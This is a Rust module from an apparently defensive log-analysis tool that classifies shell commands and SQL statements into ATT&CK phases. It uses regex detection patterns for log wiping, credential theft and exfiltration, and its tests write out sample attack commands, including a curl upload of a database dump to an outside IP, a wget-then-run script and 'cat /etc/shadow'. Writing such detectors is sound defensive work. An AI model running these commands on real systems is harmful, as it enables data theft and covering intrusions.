//! The phase of each step: the ATT&CK tactic of the rules that fired on its event, or what
//! the event itself is (a failed login is credential access, `useradd` persistence, a login on
//! the next host lateral movement, `curl -T` exfiltration…).

use std::sync::LazyLock;

use regex::Regex;
use serde::Serialize;

/// ATT&CK tactics, in kill-chain order.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Phase {
    Reconnaissance,
    InitialAccess,
    Execution,
    Persistence,
    PrivilegeEscalation,
    DefenseEvasion,
    CredentialAccess,
    Discovery,
    LateralMovement,
    Collection,
    CommandAndControl,
    Exfiltration,
    Impact,
}

impl Phase {
    /// The words a person reads.
    pub fn label(self) -> &'static str {
        match self {
            Phase::Reconnaissance => "reconnaissance",
            Phase::InitialAccess => "initial access",
            Phase::Execution => "execution",
            Phase::Persistence => "persistence",
            Phase::PrivilegeEscalation => "privilege escalation",
            Phase::DefenseEvasion => "defense evasion",
            Phase::CredentialAccess => "credential access",
            Phase::Discovery => "discovery",
            Phase::LateralMovement => "lateral movement",
            Phase::Collection => "collection",
            Phase::CommandAndControl => "command and control",
            Phase::Exfiltration => "exfiltration",
            Phase::Impact => "impact",
        }
    }

    /// The tactic of a rule tag (`attack.initial_access`, Sigma's spelling).
    pub fn from_tag(tag: &str) -> Option<Phase> {
        Some(match tag.strip_prefix("attack.")? {
            "reconnaissance" => Phase::Reconnaissance,
            "initial_access" | "initial-access" => Phase::InitialAccess,
            "execution" => Phase::Execution,
            "persistence" => Phase::Persistence,
            "privilege_escalation" | "privilege-escalation" => Phase::PrivilegeEscalation,
            "defense_evasion" | "defense-evasion" => Phase::DefenseEvasion,
            "credential_access" | "credential-access" => Phase::CredentialAccess,
            "discovery" => Phase::Discovery,
            "lateral_movement" | "lateral-movement" => Phase::LateralMovement,
            "collection" => Phase::Collection,
            "command_and_control" | "command-and-control" => Phase::CommandAndControl,
            "exfiltration" => Phase::Exfiltration,
            "impact" => Phase::Impact,
            _ => return None,
        })
    }
}

/// What a command line does, when that is plain from the command itself.
pub fn of_command(cmd: &str) -> Option<Phase> {
    static SETS: LazyLock<Vec<(Phase, Regex)>> = LazyLock::new(|| {
        let r = |p: Phase, re: &str| (p, Regex::new(re).expect("phase regex"));
        vec![
            r(
                Phase::DefenseEvasion,
                r"(?i)\bhistory\s+-c\b|\bunset\s+HISTFILE\b|HISTFILE=/dev/null|\bshred\b|rm\s+(-\S+\s+)*\S*(/var/log|\.bash_history)|\bauditctl\s+-D\b|\bsetenforce\s+0\b|journalctl\s+--vacuum|\bsystemctl\s+(stop|disable)\s+(rsyslog|auditd|syslog)",
            ),
            r(
                Phase::Exfiltration,
                r"(?i)\bcurl\b.*\s(-T|--upload-file|-F|--form|--data-binary\s+@|-d\s+@)|\bscp\b\s+(\S+\s+)*[^\s:@]+\s+\S+:|\brsync\b.*\s\S+:\S*$|\bnc\b.*<|\bftp\b.*\bput\b",
            ),
            r(
                Phase::LateralMovement,
                r"(?i)^(\S*/)?(ssh|scp|sftp|rsync|psexec|winrm)\s|\bsshpass\b",
            ),
            r(
                Phase::CredentialAccess,
                r"(?i)/etc/shadow|\bmimikatz\b|\bunshadow\b|\.ssh/id_[a-z0-9]+\b|\bhashcat\b|\bjohn\b",
            ),
            r(
                Phase::Persistence,
                r"(?i)\b(useradd|adduser|usermod|groupadd|crontab|chpasswd)\b|authorized_keys|systemctl\s+enable\b|/etc/(cron|systemd/system|rc\.local|init\.d)|\.bashrc\b",
            ),
            r(
                Phase::Collection,
                r"(?i)\b(mysqldump|pg_dump|mongodump|tar|zip|7z|rar)\b",
            ),
            r(
                Phase::Execution,
                r"(?i)\b(wget|curl|tftp|fetch)\b|\bbase64\s+-d\b|\|\s*(ba|da|z)?sh\b|^(\S*/)?(ba|da|z)?sh\s+\S",
            ),
            r(
                Phase::Discovery,
                r"(?i)^(\S*/)?(id|whoami|uname|hostname|ifconfig|ip|netstat|ss|ps|w|who|last|lsb_release|df|mount|cat\s+/etc/(passwd|os-release|issue))(\s|$)",
            ),
            r(
                Phase::PrivilegeEscalation,
                r"(?i)^(\S*/)?(ba|da|z)?sh$|^(\S*/)?(su|sudo)(\s|$)|\bchmod\s+[u+]*s\b|\bpkexec\b",
            ),
        ]
    });
    SETS.iter()
        .find(|(_, re)| re.is_match(cmd.trim()))
        .map(|(p, _)| *p)
}

/// What a database statement does, when that is plain: writing tables to files is
/// collection, dropping them impact, new users and grants persistence.
pub fn of_statement(sql: &str) -> Option<Phase> {
    static SETS: LazyLock<Vec<(Phase, Regex)>> = LazyLock::new(|| {
        let r = |p: Phase, re: &str| (p, Regex::new(re).expect("statement regex"));
        vec![
            r(
                Phase::Collection,
                r"(?i)\binto\s+(out|dump)file\b|\bload_file\s*\(|\bcopy\s+.*\bto\s+'|\bselect\b.*\bfrom\s+\S*(users|customers|accounts|credit|orders)\b",
            ),
            r(
                Phase::Impact,
                r"(?i)\b(drop\s+(table|database)|truncate\s+table)\b",
            ),
            r(
                Phase::Persistence,
                r"(?i)\b(create\s+user|grant\s+all|alter\s+user)\b",
            ),
        ]
    });
    SETS.iter()
        .find(|(_, re)| re.is_match(sql))
        .map(|(p, _)| *p)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_have_the_phases_an_analyst_would_give_them() {
        let cases = [
            ("/usr/bin/bash -c history -c", Phase::DefenseEvasion),
            ("bash -c history -c", Phase::DefenseEvasion),
            ("rm -f /var/log/auth.log", Phase::DefenseEvasion),
            (
                "curl -s -T /tmp/shop.sql http://203.0.113.200/up",
                Phase::Exfiltration,
            ),
            ("scp /tmp/db.tgz u@198.51.100.9:/x", Phase::Exfiltration),
            ("ssh deploy@10.0.0.6", Phase::LateralMovement),
            (
                "/usr/bin/wget -q http://203.0.113.200/x.sh -O /tmp/.x.sh",
                Phase::Execution,
            ),
            ("/bin/sh /tmp/.x.sh", Phase::Execution),
            ("mysqldump -u root shop", Phase::Collection),
            ("cat /etc/shadow", Phase::CredentialAccess),
            ("useradd -m support", Phase::Persistence),
            ("id", Phase::Discovery),
            ("/bin/bash", Phase::PrivilegeEscalation),
            ("/usr/bin/systemctl reload nginx", Phase::Execution),
        ];
        for (cmd, want) in cases {
            let got = of_command(cmd).unwrap_or(Phase::Execution);
            assert_eq!(got, want, "{cmd}");
        }
        assert_eq!(
            of_statement("Query: SELECT * FROM customers INTO OUTFILE '/tmp/shop.sql'"),
            Some(Phase::Collection)
        );
        assert_eq!(of_statement("DROP TABLE orders"), Some(Phase::Impact));
        assert_eq!(of_statement("SELECT 1"), None);
        assert_eq!(
            Phase::from_tag("attack.initial_access"),
            Some(Phase::InitialAccess)
        );
        assert_eq!(Phase::from_tag("attack.t1110"), None);
        assert_eq!(Phase::from_tag("cve.2021-44228"), None);
    }
}
